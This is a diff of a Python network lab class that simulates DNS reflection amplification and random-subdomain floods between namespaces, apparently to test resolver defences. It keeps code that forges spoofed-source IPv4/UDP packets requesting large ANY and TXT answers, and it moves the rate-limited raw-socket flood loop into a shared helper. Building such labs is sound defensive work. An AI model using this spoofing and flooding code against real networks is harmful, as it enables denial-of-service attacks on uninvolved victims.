@@ -13,10 +13,9 @@ import random
 import shutil
 import socket
 import struct
-import threading
 import time
-from collections.abc import Iterator, Sequence
-from contextlib import contextmanager
+from collections.abc import Sequence
+from contextlib import AbstractContextManager
 
 from msgspec import Struct, field
 
@@ -129,20 +128,15 @@ class ResolverLab(TwoHosts):
 
     def reflected(self) -> tuple[int, int]:
         """Return packets and bytes that reached the target of the reflection so far."""
-        words = ("nft", "list", "counter", "ip", "far", "reflected")
-        listed = namespaces.run("ip", "netns", "exec", self.attacker, *words).split()
-        return int(listed[listed.index("packets") + 1]), int(listed[listed.index("bytes") + 1])
+        return self.counted(self.attacker, "ip", "far", "reflected")
 
-    @contextmanager
-    def reflection(self, pps: int) -> Iterator[None]:
+    def reflection(self, pps: int) -> AbstractContextManager[object]:
         """Ask for the big answer in the target's name, for the duration of the block."""
         ports = iter(lambda: random.randrange(1024, 65535), 0)  # noqa: S311
         questions = [forged(TARGET, next(ports), query(BIG, kind, 4096)) for kind in (_ANY, _TXT) * 64]
-        with self._flood(questions, pps):
-            yield
+        return self.forging(questions, pps)
 
-    @contextmanager
-    def random_names(self, pps: int) -> Iterator[None]:
+    def random_names(self, pps: int) -> AbstractContextManager[object]:
         """Ask for names that don't exist in the attacked zone, in the names of many, during the block."""
         letters = "abcdefghijklmnopqrstuvwxyz"
         made = random.Random(1)  # noqa: S311
@@ -154,22 +148,7 @@ class ResolverLab(TwoHosts):
             )
             for _ in range(20_000)
         ]
-        with self._flood(questions, pps):
-            yield
-
-    @contextmanager
-    def _flood(self, packets: list[bytes], pps: int) -> Iterator[None]:
-        over = threading.Event()
-        with inside(self.attacker):
-            raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-        thread = threading.Thread(target=_send, args=(raw, packets, pps, over))
-        thread.start()
-        try:
-            yield
-        finally:
-            over.set()
-            thread.join()
-            raw.close()
+        return self.forging(questions, pps)
 
 
 def query(name: str, kind: int, room: int = 0) -> bytes:
@@ -184,16 +163,6 @@ def forged(source: str, port: int, payload: bytes) -> bytes:
     udp = struct.pack(">4H", port, 53, 8 + len(payload), 0) + payload
     ends = socket.inet_aton(source) + socket.inet_aton(VICTIM_4)
     return struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 57, 17, 0) + ends + udp
-
-
-def _send(raw: socket.socket, packets: list[bytes], pps: int, over: threading.Event) -> None:
-    started, sent = time.monotonic(), 0
-    while not over.is_set():
-        due = int((time.monotonic() - started) * pps)
-        for number in range(sent, due):
-            raw.sendto(packets[number % len(packets)], (VICTIM_4, 0))
-        sent = max(sent, due)
-        over.wait(0.002)
 
 
 _TRIES, _TRY_SECONDS = 3, 1.0
@@ -255,8 +224,7 @@ async def _client(stub: _Stub, names: Sequence[str], end: float, answers: Client
 
 
 async def _resolve(stub: _Stub, name: str) -> bool:
-    head = struct.pack(">6H", random.randrange(1 << 16), 0x0100, 1, 0, 0, 0)  # noqa: S311
-    question = head + wire_name([label.encode() for label in name.split(".")]) + b"\0\1\0\1"
+    question = query(name, _A)
     with stub.socket(socket.SOCK_DGRAM) as sock:
         sock.connect((stub.server, 53))
         for _ in range(_TRIES):
